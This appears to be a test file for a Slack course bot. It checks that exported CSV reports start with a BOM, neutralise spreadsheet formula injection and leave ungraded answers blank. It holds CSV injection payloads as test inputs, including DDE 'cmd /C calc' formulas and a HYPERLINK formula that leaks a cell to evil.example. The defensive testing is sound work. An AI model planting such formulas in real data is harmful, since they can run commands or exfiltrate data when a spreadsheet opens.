"""The lead's CSV files are safe to open in a spreadsheet and honest about what is graded."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from bot.cli import main
from bot.content.loader import load_catalog
from tests.content.test_checker import make_course
from tests.standin import SlackStandIn
from tests.support.harness import Bot, running_bot

BOM = b"\xef\xbb\xbf"
ANSWERS_HEADER = (
    "learner_id,learner_name,course,lesson,question,kind,answer,correct,attempt,answered_at"
)
DISCUSSION_HEADER = (
    "learner_id,learner_name,course,lesson,channel,thread_ts,reply_ts,text,replied_at"
)
EVIL_NAME = "=Cmd|' /C Calc'!A0"
EVIL_ANSWER = "+SUM(1,1)*cmd|' /C calc'!A0"
EVIL_REPLY = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the lesson")'
# A name for each start OWASP lists; a spreadsheet would read the rest as a formula.
FORMULA_NAMES = ("@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "+1")
LESSON = """\
---
title: Reflect
objective: Name one habit
minutes: 2
discussion: Which habit sticks for you?
quiz:
  - question: Which habit will you start?
    kind: open
  - question: How often do you review notes?
    kind: poll
    options:
      - Daily
      - Weekly
  - question: Is a 10-minute walk a habit?
    kind: true_false
    options:
      - text: "True"
        correct: true
      - text: "False"
---
Hi {{ learner.first_name }}.
"""


def rows_of(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(BOM)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def question(bot: Bot, channel: str, number: int) -> dict[str, object]:
    return [
        m
        for m in bot.standin.messages(channel)
        if str(m["text"]).startswith(f"Question {number} of")
    ][-1]


def test_csv_exports_defuse_formulas_start_with_a_bom_and_leave_ungraded_answers_empty(
    standin: SlackStandIn, database_url: str, tmp_path: Path
) -> None:
    lessons = tmp_path / "lessons"
    make_course(lessons, {"01-reflect.md": LESSON}, course="habits")
    evil = standin.add_user("evil", real_name=EVIL_NAME, tz="Europe/Berlin")
    others = [standin.add_user(f"p{n}", real_name=name) for n, name in enumerate(FORMULA_NAMES)]
    general = standin.add_channel("general", members=[evil])
    catalog = load_catalog(lessons).catalog
    with running_bot(standin, database_url, lessons=lessons, catalog=catalog) as bot:
        people = " ".join(f"<@{user}>" for user in (evil, *others))
        assert "Sending" in bot.command(bot.lead, f"send habits/reflect to {people}")
        assert "Sending" in bot.command(bot.lead, f"send habits/reflect to <#{general}|general>")
        bot.tick()
        bot.tick()  # names come from Slack profiles, looked up by the tick
        dm = standin.dm_channel(evil)
        bot.driver.click(evil, question(bot, dm, 1), channel_id=dm, action_id="answer_open")
        [form] = standin.open_views(evil)
        bot.driver.submit_view(evil, form, {"answer": {"answer": EVIL_ANSWER}})
        for user in (evil, *others):
            channel = standin.dm_channel(user)
            bot.driver.click(
                user, question(bot, channel, 2), channel_id=channel, action_id="answer_0"
            )
        bot.driver.click(evil, question(bot, dm, 3), channel_id=dm, action_id="answer_1")
        post = [m for m in standin.messages(general) if str(m["text"]).startswith("New lesson")][0]
        bot.driver.user_says(evil, general, EVIL_REPLY, thread_ts=str(post["ts"]))

        bot.command(bot.lead, "report habits")
        uploads = {f["name"]: bytes(f["bytes"]) for f in standin.files()}
        answers = rows_of(uploads["habits-answers.csv"])
        discussion = rows_of(uploads["habits-discussion.csv"])

        env_file = tmp_path / ".env"
        env_file.write_text(f"DATABASE_URL={bot.db.url}\nLESSONS_DIR={lessons}\n", encoding="utf-8")
        out = tmp_path / "answers.csv"
        assert main(["--env-file", str(env_file), "report", "habits", "--csv", str(out)]) == 0
        assert out.read_bytes() == uploads["habits-answers.csv"]

    assert ",".join(answers[0]) == ANSWERS_HEADER  # the contract, unchanged
    mine = {(r["kind"], r["learner_id"]): r for r in answers}
    assert mine[("open", evil)]["learner_name"] == "'" + EVIL_NAME
    assert mine[("open", evil)]["answer"] == "'" + EVIL_ANSWER
    assert mine[("open", evil)]["correct"] == ""  # open answers are not graded
    assert mine[("poll", evil)]["correct"] == ""  # nor are polls
    assert mine[("true_false", evil)]["correct"] == "false"
    assert mine[("poll", evil)]["answer"] == "Daily"  # plain text stays as it was
    assert sorted(r["learner_name"] for r in answers if r["learner_id"] in others) == sorted(
        "'" + name for name in FORMULA_NAMES
    )
    [reply] = discussion
    assert (reply["learner_id"], reply["learner_name"]) == (evil, "'" + EVIL_NAME)
    assert reply["text"] == "'" + EVIL_REPLY
    assert ",".join(reply) == DISCUSSION_HEADER
